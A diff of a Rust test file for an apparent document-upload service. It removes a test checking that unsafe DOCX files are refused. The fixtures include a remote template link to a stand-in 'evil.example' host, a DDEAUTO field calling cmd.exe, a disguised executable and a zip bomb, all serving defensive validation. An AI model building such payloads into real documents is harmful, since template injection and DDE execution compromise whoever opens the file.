@@ -52,36 +52,6 @@ async fn library_4_the_bytes_decide_what_a_file_is() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn library_4_macros_programs_passwords_outside_data_and_bombs_are_refused() {
-    let outside = br#"<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
-    let link = br#"<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://shora.example" TargetMode="External"/></Relationships>"#;
-    let zeros = vec![0; 3_000_000];
-    let many: Vec<_> = (0..2000).map(|at| (format!("word/part{at}.xml"), b"<a/>".as_slice())).collect();
-    let many: Vec<_> = many.iter().map(|(name, content)| (name.as_str(), *content)).collect();
-    let dde = b"<w:p><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:p>";
-    let shelf = drafting("form").await;
-    for (entries, finding) in [
-        (vec![("word/vbaProject.bin", b"macro".as_slice())], "macro"),
-        (vec![("word/embeddings/oleObject1.bin", b"ole".as_slice())], "executable"),
-        (vec![("word/media/image1.png", b"MZ\x90\0".as_slice())], "executable"),
-        (vec![("word/setup.exe", b"x".as_slice())], "executable"),
-        (vec![("word/_rels/settings.xml.rels", outside.as_slice())], "outside_link"),
-        (vec![("word/header1.xml", dde.as_slice())], "outside_link"),
-        (vec![("word/media/image1.bmp", zeros.as_slice())], "zip_bomb"),
-        (many, "too_many_entries"),
-    ] {
-        let refused = shelf.put("F-27", &fill("docx", docx("فرم", &entries))).await;
-        refused.assert_problem(422, "library.unsafe_file");
-        assert_eq!(refused.problem().params["finding"], finding);
-    }
-    let linked = docx("فرم", &[("word/_rels/document.xml.rels", link.as_slice())]);
-    shelf.put("F-27", &fill("docx", linked)).await.assert_status(200);
-    let cut = pdf("فرم", 1, 1, 0)[..200].to_vec();
-    let refused = shelf.put("F-27", &print(cut)).await;
-    assert_eq!(refused.problem().params["finding"], "damaged");
-}
-
-#[tokio::test(flavor = "multi_thread")]
 async fn library_5_a_pdf_with_text_on_less_than_half_of_its_pages_looks_like_a_scan() {
     let shelf = drafting("form").await;
     shelf.put("F-27", &fill("xlsx", xlsx(&[&["فرم"]]))).await.assert_status(200);
